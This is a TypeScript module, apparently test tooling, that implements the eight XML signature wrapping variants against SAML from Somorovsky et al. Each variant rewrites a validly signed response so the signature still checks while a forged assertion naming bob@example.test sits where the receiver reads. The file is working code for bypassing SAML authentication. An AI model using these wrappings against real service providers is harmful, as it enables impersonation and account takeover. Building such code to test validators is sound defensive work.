/**
 * XML signature wrapping: a signed document is moved to a place where its signature is still valid, and another one is
 * put where the receiver reads. The eight variants of "On Breaking SAML: Be Whoever You Want to Be" (Somorovsky et al.,
 * USENIX Security 2012).
 */
export const wrappings: Readonly<
  Record<string, { signed: 'Response' | 'Assertion'; wrap: (xml: string) => string }>
> = {
  'the signed response inside the signature of another response': {
    signed: 'Response',
    wrap: (xml) => {
      const { signature, rest } = cut(xml);
      return inside(evil(rest), withObject(signature, rest));
    },
  },
  'the signed response beside its signature in another response': {
    signed: 'Response',
    wrap: (xml) => {
      const { signature, rest } = cut(xml);
      return inside(evil(rest), `${signature}${rest}`);
    },
  },
  'another assertion before the signed one': {
    signed: 'Assertion',
    wrap: (xml) => xml.replace(/<saml:Assertion/, `${evil(assertionOf(cut(xml).rest))}$&`),
  },
  'the signed assertion inside another one': {
    signed: 'Assertion',
    wrap: (xml) => {
      const outer = evil(assertionOf(cut(xml).rest));
      return replaceAssertion(xml, outer.replace('</saml:Assertion>', `${assertionOf(xml)}$&`));
    },
  },
  'another assertion with the signature, and the signed one at the end of the response': {
    signed: 'Assertion',
    wrap: (xml) => {
      const { signature, rest } = cut(xml);
      const original = assertionOf(rest);
      const other = inside(evil(original), signature);
      return replaceAssertion(rest, other).replace('</samlp:Response>', `${original}$&`);
    },
  },
  'another assertion with a signature that holds the signed one': {
    signed: 'Assertion',
    wrap: (xml) => {
      const { signature, rest } = cut(xml);
      const original = assertionOf(rest);
      return replaceAssertion(rest, inside(evil(original), withObject(signature, original)));
    },
  },
  'another assertion in an extension': {
    signed: 'Assertion',
    wrap: (xml) => {
      const extension = `<samlp:Extensions>${evil(assertionOf(cut(xml).rest))}</samlp:Extensions>`;
      return xml.replace('<samlp:Status>', `${extension}$&`);
    },
  },
  'the signed assertion in an object of the signature of another one': {
    signed: 'Assertion',
    wrap: (xml) => {
      const { signature, rest } = cut(xml);
      const original = assertionOf(rest);
      const holder = signature.replace('</ds:Signature>', `<ds:Object>${original}</ds:Object>$&`);
      return replaceAssertion(rest, inside(evil(original), holder));
    },
  },
};

/** Returns the document without its signature, and the signature. */
function cut(xml: string): { signature: string; rest: string } {
  const signature = /<ds:Signature [\s\S]*<\/ds:Signature>/.exec(xml)?.[0] ?? '';
  if (signature === '') throw new Error('the document has no signature to wrap');
  return { signature, rest: xml.replace(signature, '') };
}

function assertionOf(xml: string): string {
  return /<saml:Assertion[\s\S]*<\/saml:Assertion>/.exec(xml)?.[0] ?? '';
}

function replaceAssertion(xml: string, by: string): string {
  return xml.replace(/<saml:Assertion[\s\S]*<\/saml:Assertion>/, () => by);
}

/** Returns the same document about another person, with another id. */
function evil(xml: string): string {
  return xml
    .replace(/ ID="[^"]*"/, ' ID="_evil"')
    .replace(/(<saml:NameID[^>]*>)[^<]*/, '$1bob@example.test');
}

/** Inserts a text behind the issuer, where signatures are. */
function inside(xml: string, what: string): string {
  return xml.replace(/<\/saml:Issuer>/, (end) => `${end}${what}`);
}

function withObject(signature: string, content: string): string {
  return signature.replace('</ds:Signature>', `<ds:Object>${content}</ds:Object></ds:Signature>`);
}
